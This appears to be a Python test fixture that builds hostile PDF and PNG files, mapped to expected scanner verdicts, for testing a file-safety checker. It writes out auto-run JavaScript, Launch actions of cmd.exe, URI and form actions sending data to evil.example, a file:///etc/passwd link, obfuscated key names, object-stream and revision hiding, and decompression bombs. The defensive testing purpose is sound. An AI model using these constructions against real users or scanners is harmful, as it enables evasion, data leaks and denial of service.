"""PDF files and pictures that mean harm."""

import io
import struct
import zlib
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter

from tests.activities.files.danger import EICAR
from tests.activities.files.hostile_word import zipped
from tests.activities.files.papers import picture, typeset

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def pdf(*more: bytes, catalog: bytes = b"", page: bytes = PAGE, pages: bytes = PAGES) -> bytes:
    """A file by hand: catalog, page tree, one page, then further objects from number 4 on."""
    out, offsets = io.BytesIO(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    out.seek(0, 2)
    objects = (b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", pages, page, *more)
    for number, content in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, content))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return out.getvalue()


def stream(packed: bytes, more: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (more, len(packed), packed)


def action(kind: bytes, more: bytes = b"") -> bytes:
    return pdf(catalog=b"/OpenAction<</S/" + kind + more + b">>")


AWAY = b"/AA<</O<</S/URI/URI(http://evil.example)>>>>>>"


def linked(address: bytes) -> bytes:
    """A page with a link that one may click."""
    return pdf(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI" + address + b">>>>")


def in_object_stream(content: bytes) -> bytes:
    """The catalog's action lies in a packed object stream, and so does nothing that one could search for."""
    inside = b"6 0 " + content
    packed = stream(zlib.compress(inside), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    out = io.BytesIO(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    out.seek(0, 2)
    objects = (b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", PAGES, PAGE, packed)
    offsets = []
    for number, one in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, one))
    start = out.tell()
    rows = [(0, 0, 65535), *((1, at, 0) for at in offsets), (1, start, 0), (2, 4, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    xref = stream(table, b"/Type/XRef/Size 7/W[1 4 2]/Root 1 0 R")
    out.write(b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref, start))
    return out.getvalue()


def covered() -> bytes:
    """A later revision has put a harmless catalog over the one that acts."""
    first = pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>")
    at = len(first)
    start = at + len(b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n")
    before = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return first + (
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\nxref\n1 1\n%010d 00000 n \n"
        b"trailer\n<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (at, before, start)
    )


def encrypted() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(typeset())))
    writer.encrypt("", "owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_file() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(typeset())))
    writer.add_attachment("x.exe", b"MZ")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def swollen(size: int, times: int = 1) -> bytes:
    """Zeros. What is packed up to a full flush stands for itself: one million is packed, and repeated."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    million = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    check = struct.pack(">HH", size % 65_521, 1)
    packed = b"\x78\xda" + million * (size // 1_000_000) + packer.flush() + check
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def bomb(times: int = 1, kind: bytes = b"") -> bytes:
    names = b"[" + b"/FlateDecode" * times + b"]"
    return pdf(stream(swollen(1_000_000_000, times), kind + b"/Filter" + names))


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


PDF: dict[str, tuple[Callable[[], bytes], str]] = {
    "script": (lambda: action(b"JavaScript", b"/JS(app.alert\\(1\\))"), "file_active"),
    "script in an object stream": (lambda: in_object_stream(b"<</S/JavaScript/JS(1)>>"), "file_active"),
    "script in another spelling": (lambda: action(b"J#61vaScript", b"/J#53(1)"), "file_active"),
    "script under a later revision": (covered, "file_active"),
    "script by name": (lambda: pdf(catalog=b"/Names<</J#61vaScript<</Names[(a) 4 0 R]>>>>"), "file_active"),
    "page of the web on opening": (lambda: action(b"URI", b"/URI(http://evil.example/?leak)"), "file_active"),
    "script in a link on opening": (lambda: action(b"URI", b"/URI(javascript:alert\\(1\\))"), "file_active"),
    "printer on opening": (lambda: action(b"Named", b"/N/Print"), "file_active"),
    "action on opening in an object of its own": (
        lambda: pdf(b"<</S 5 0 R/N/Print>>", b"/Named", catalog=b"/OpenAction 4 0 R"), "file_active",
    ),
    "second action on opening": (
        lambda: action(b"GoTo", b"/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example)>>"), "file_active",
    ),
    "action of a page that opens": (lambda: pdf(page=PAGE[:-2] + AWAY), "file_active"),
    "actions of a page in objects of their own": (
        lambda: pdf(b"<</O 5 0 R>>", b"<</S/Named/N/Print>>", page=PAGE[:-2] + b"/AA 4 0 R>>"), "file_active",
    ),
    "script in a link": (lambda: linked(b"(java\\nscript:alert\\(1\\))"), "file_active"),
    "file in a link": (lambda: linked(b"(file:///etc/passwd)"), "file_active"),
    "another machine's file in a link": (lambda: linked(b"(\\\\\\\\evil.example\\\\x)"), "file_active"),
    "link in UTF-16": (
        lambda: linked(b"<FEFF%b>" % "javascript:1".encode("utf-16-be").hex().encode()), "file_active",
    ),
    "beginning of all links": (lambda: pdf(catalog=b"/URI<</Base(javascript:)>>"), "file_active"),
    "program by a name of its own": (lambda: pdf(b"<</S 5 0 R/F(cmd.exe)>>", b"/L#61unch"), "file_active"),
    "program": (lambda: action(b"L#61unch", b"/F(cmd.exe)"), "file_active"),
    "other file": (lambda: action(b"GoToR", b"/F(other.pdf)"), "file_active"),
    "form that sends itself": (lambda: action(b"Submit#46orm", b"/F(http://evil.example)"), "file_active"),
    "data of a form": (lambda: pdf(catalog=b"/AcroForm<</XFA(x)/Fields[]>>"), "file_active"),
    "file in the file": (with_file, "file_active"),
    "file in the file in another spelling": (lambda: pdf(b"<</Type/Filespec/E#46 5 0 R>>"), "file_embedded"),
    "film": (lambda: pdf(b"<</Type/Annot/Subtype/Rich#4dedia>>"), "file_embedded"),
    "stream of another file": (lambda: pdf(stream(b"", b"/F(c:/secret)")), "file_links_outside"),
    "password": (encrypted, "file_encrypted"),
    "virus": (lambda: pdf(stream(EICAR)), "file_virus"),
    "packed virus": (lambda: pdf(stream(zlib.compress(EICAR), b"/Filter/FlateDecode")), "file_virus"),
    "half a file": (lambda: typeset()[: len(typeset()) // 2], "file_damaged"),
    "no table": (lambda: b"%PDF-1.7\nhello\nstartxref\n0\n%%EOF\n", "file_damaged"),
    "no page": (lambda: pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>"), "file_no_pages"),
    "pages without end": (lambda: pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>"), "file_damaged"),
    "something before the beginning": (lambda: b"GIF89a" + typeset(), "file_type_unknown"),
    "archive behind the end": (lambda: typeset() + zipped({"a": b"b"}), "file_polyglot"),
    "page of the web behind the end": (lambda: typeset() + b"<script>alert(1)</script>", "file_polyglot"),
    "a great deal behind the end": (lambda: typeset() + b"x" * 5000, "file_polyglot"),
    "bomb": (bomb, "file_bomb"),
    "bomb in a bomb": (lambda: bomb(2), "file_bomb"),
    "bomb in a bomb in a bomb": (lambda: bomb(3), "file_bomb"),
    "bomb of objects": (lambda: bomb(1, b"/Type/ObjStm/N 9/First 9"), "file_bomb"),
    "bomb of another kind": (lambda: pdf(stream(b"\x80" * 200_000, b"/Filter/LZWDecode")), "file_bomb"),
    "filter that nobody knows": (lambda: pdf(stream(b"x", b"/Filter/Crypt")), "file_damaged"),
    "endless depth": (lambda: pdf(b"[" * 5000 + b"]" * 5000), "file_too_hard"),
    "deep enough": (lambda: pdf(b"[" * 150 + b"]" * 150), "file_bomb"),
    "giant picture": (
        lambda: pdf(stream(b"", b"/Subtype/Image/Width 90000/Height 90000")), "file_bomb",
    ),
    "revisions without end": (lambda: typeset() + b"\n%%EOF" * 100 + b"\n", "file_bomb"),
}  # fmt: skip

IMAGES: dict[str, tuple[Callable[[], bytes], str]] = {
    "picture that swells": (lambda: png(60_000, 60_000), "file_bomb"),
    "picture just too large": (lambda: png(8_000, 6_000), "file_bomb"),
    "picture with a swelling text": (
        lambda: png(20, 20, chunk(b"zTXt", b"a\0\0" + swollen(200_000_000))), "file_damaged",
    ),
    "half a picture": (lambda: picture("PNG")[:-40], "file_damaged"),
    "half a photograph": (lambda: picture("JPEG")[:-400], "file_damaged"),
    "picture with an archive": (lambda: picture("PNG") + zipped({"a": b"b"}), "file_polyglot"),
    "photograph with an archive": (lambda: picture("JPEG") + zipped({"a": b"b"}), "file_polyglot"),
    "picture with a program": (lambda: picture("PNG") + b"MZ\x90\0", "file_polyglot"),
    "photograph with a virus": (lambda: picture("JPEG") + EICAR, "file_virus"),
    "a beginning alone": (lambda: b"\xff\xd8\xff\xe0" + bytes(50), "file_damaged"),
}  # fmt: skip
